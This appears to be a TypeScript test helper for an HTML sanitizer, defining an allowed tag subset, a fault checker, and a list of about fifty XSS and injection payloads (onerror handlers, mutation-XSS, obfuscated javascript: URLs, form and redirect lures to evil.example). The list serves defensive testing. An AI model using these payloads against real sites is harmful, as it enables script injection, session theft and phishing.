import { load } from 'cheerio';
import { cleanHtml } from '../../src/items/clean-html.ts';

export const ASSET = `asset:${'a1'.repeat(32)}`;
const clean = (html: string): string => cleanHtml(html, 'body').html;

const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  p: ['data-align'],
  h2: ['data-align'],
  h3: ['data-align'],
  h4: ['data-align'],
  a: ['href'],
  img: ['src', 'alt'],
  ol: ['start'],
  td: ['colspan', 'rowspan', 'data-align'],
  th: ['colspan', 'rowspan', 'scope', 'data-align'],
};
export const TAGS =
  'p h2 h3 h4 a img ol td th br strong em sub sup blockquote ul li table thead tbody tfoot tr caption figure figcaption hr pre code'.split(
    ' ',
  );

const isStrange = (name: string, attributes: readonly string[]): boolean =>
  !TAGS.includes(name) || attributes.some((attribute) => !(ATTRIBUTES[name] ?? []).includes(attribute));

/** What is wrong with the output of `cleanHtml`, as a browser would read it: nothing, ever. */
export const faultsOf = (raw: string): string[] => {
  const once = clean(raw);
  const $ = load(`<!DOCTYPE html><body>${once}`);
  const all = $('body *').toArray();
  const faults: readonly (readonly [string, boolean])[] = [
    ['another result when cleaned twice', clean(once) !== once],
    ['not NFC', once !== once.normalize('NFC')],
    ['outside the subset', all.some(({ name, attribs }) => isStrange(name, Object.keys(attribs)))],
    [
      'link to elsewhere',
      all.some(({ name, attribs }) => name === 'a' && !/^(?:https?|mailto|tel):/.test(attribs.href ?? '')),
    ],
    ['foreign image', all.some(({ name, attribs }) => name === 'img' && attribs.src !== ASSET)],
    ['comment', once.includes('<!')],
  ];
  return faults.flatMap(([fault, found]) => (found ? [fault] : []));
};

export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${ASSET}" alt="x" onerror=alert(1)>`,
  '<svg/onload=alert(1)>',
  '<svg><p><style><img src="</style><img src=x onerror=alert(1)//">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript\n:alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="https://admin:secret@evil.example">x</a>',
  '<a href="http://\u202egnp.exe">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=password></form>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=1 onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=1 onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=1 onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><img src=x onerror=alert(1)><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div style="position:fixed;top:0;left:0;width:9999px;background:url(javascript:alert(1))">x</div>',
  '<p style="text-align:center\\";}</style><img src=x onerror=alert(1)>">x</p>',
  '<p data-align="center&quot; onclick=&quot;alert(1)">x</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt=x>',
  '<img srcset="https://evil.example/a.png 1x" alt=x>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  "<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0061lert(1)</script x>",
  '<table><td background="javascript:alert(1)">x',
  '<p id="__proto__" class="constructor">x</p>',
  '<constructor>x</constructor><__proto__>y</__proto__><tostring>z',
  '<x onclick=alert(1)>x</x><custom-element>y</custom-element>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b>x</b>\u0338<i>y</i>&#x338;',
];
